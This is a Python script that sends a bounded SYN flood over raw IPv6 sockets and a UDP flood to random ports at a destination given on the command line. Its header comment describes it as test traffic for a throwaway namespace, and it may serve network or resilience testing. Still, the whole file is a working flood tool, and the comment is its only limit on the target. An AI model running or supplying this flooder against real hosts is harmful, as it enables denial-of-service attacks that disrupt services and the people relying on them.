# SYN flood and UDP to random ports at one IPv6 destination, bounded by count and time; prints
# {"syn": n, "udp": n} (packets the kernel accepted for sending). Test traffic only: run it in
# a throwaway namespace. Usage: flood.py DST SECONDS MAX_PER_KIND
import json
import random
import socket
import struct
import sys
import time

dst, secs, limit = sys.argv[1], float(sys.argv[2]), int(sys.argv[3])
IPV6_CHECKSUM = 7
raw = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_TCP)
# The kernel fills the TCP checksum (offset 16) with the pseudo-header for us.
raw.setsockopt(socket.IPPROTO_IPV6, IPV6_CHECKSUM, 16)
udp = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
udp.setblocking(False)
raw.setblocking(False)
rng = random.Random(7)
sent = {"syn": 0, "udp": 0}
end = time.monotonic() + secs
payload = b"x" * 64
while time.monotonic() < end and (sent["syn"] < limit or sent["udp"] < limit):
    for _ in range(64):
        if sent["syn"] < limit:
            sport, dport = rng.randrange(1024, 65535), rng.randrange(1, 65535)
            # sport dport seq ack offset/flags(SYN) window csum urg
            hdr = struct.pack("!HHIIHHHH", sport, dport, rng.getrandbits(32), 0, 0x5002,
                              65535, 0, 0)
            try:
                raw.sendto(hdr, (dst, 0))
                sent["syn"] += 1
            except (BlockingIOError, OSError):
                pass
        if sent["udp"] < limit:
            try:
                udp.sendto(payload, (dst, rng.randrange(1, 65535)))
                sent["udp"] += 1
            except (BlockingIOError, OSError):
                pass
    time.sleep(0.0005)  # leave the shared CPUs some air; still thousands of packets a second
print(json.dumps(sent))
